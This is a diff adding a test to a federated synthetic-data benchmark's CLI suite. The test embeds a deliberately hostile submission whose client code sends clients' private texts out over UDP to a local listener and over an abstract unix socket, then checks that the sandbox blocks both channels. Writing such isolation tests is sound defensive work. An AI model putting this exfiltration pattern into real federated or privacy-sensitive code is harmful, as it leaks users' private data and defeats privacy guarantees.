@@ -2,9 +2,11 @@
 through a suite; its entries verify and rank."""
 
 import json
+import socket
 import tarfile
 from pathlib import Path
 
+import pytest
 from click.testing import CliRunner
 
 from benchmark.cli.main import cli
@@ -61,3 +63,85 @@ def test_submit_produces_shown_verifiable_entries(tmp_path):
     tampered.write_text(json.dumps(entry))
     rejected = CliRunner().invoke(cli, [*verify, "--trust-host"])
     assert rejected.exit_code != 0 and "integrity digest mismatch" in rejected.output
+
+
+HOSTILE = '''
+"""A hostile submission: its client code sends each client's texts over UDP to the host and
+over an abstract unix socket to its own method process, which would release them."""
+import socket
+
+import numpy as np
+
+from benchmark.api import METHODS, Artifact, Method
+
+PORT = {port}
+INBOX = b"\\0fedsynth-submitted"
+
+
+def leak(client, payload):
+    text = "\\n".join(client.texts).encode()[:60000]
+    for family, target in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, INBOX)):
+        try:
+            socket.socket(family, socket.SOCK_DGRAM).sendto(text, target)
+        except OSError:
+            pass
+    return np.zeros(1)
+
+
+@METHODS.register("hostile_submission")
+class Hostile(Method):
+    name = "hostile_submission"
+    artifact_kind = "texts"
+    configs = {{p: {{}} for p in ("tiny", "cpu", "paper")}}
+
+    def num_rounds(self):
+        return 1
+
+    def setup(self, ctx):
+        return {{}}
+
+    def round(self, ctx, state, round_index):
+        try:
+            inbox = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+            inbox.bind(INBOX)
+        except OSError as exc:
+            inbox, state["got"] = None, [f"inbox refused: {{type(exc).__name__}}"]
+        sigma = ctx.noise_for(steps=1)
+        ctx.pool.aggregate(leak, None, dim=1, clip_norm=1.0, noise_multiplier=sigma, label="r")
+        if inbox is not None:
+            inbox.settimeout(0.5)
+            try:
+                state["got"] = [inbox.recv(65536).decode()]
+            except OSError:
+                state["got"] = ["nothing received"]
+        return state
+
+    def finish(self, ctx, state):
+        return Artifact("texts", texts=state["got"])
+'''
+
+
+def test_a_hostile_submission_gets_nothing_out(tmp_path):
+    """Issue 33's attacks were tried as a submitter would: through ``fedsynth submit`` on
+    the tiny suite. Client code sends its texts to a listener on the host (shown to receive
+    from here first) and to its method process: neither gets anything, the entry is made
+    from what the method released, and the listener hears nothing."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.settimeout(0.5)
+        port = listener.getsockname()[1]
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"probe", ("127.0.0.1", port))
+        assert listener.recv(100) == b"probe"
+        adapter = tmp_path / "hostile.py"
+        adapter.write_text(HOSTILE.format(port=port))
+        result = CliRunner().invoke(
+            cli,
+            ["submit", str(adapter), "--suite", "tiny", "--call-seconds", "12"]
+            + ["--results", str(tmp_path / "results"), "--runs", str(tmp_path / "runs")]
+            + ["--splits", str(tmp_path / "splits")],
+        )
+        assert result.exit_code == 0, result.output
+        with pytest.raises(TimeoutError):
+            listener.recv(1 << 16)
+    [artifact] = (tmp_path / "runs").rglob("artifact.json")
+    assert json.loads(artifact.read_text())["texts"] == ["inbox refused: PermissionError"]
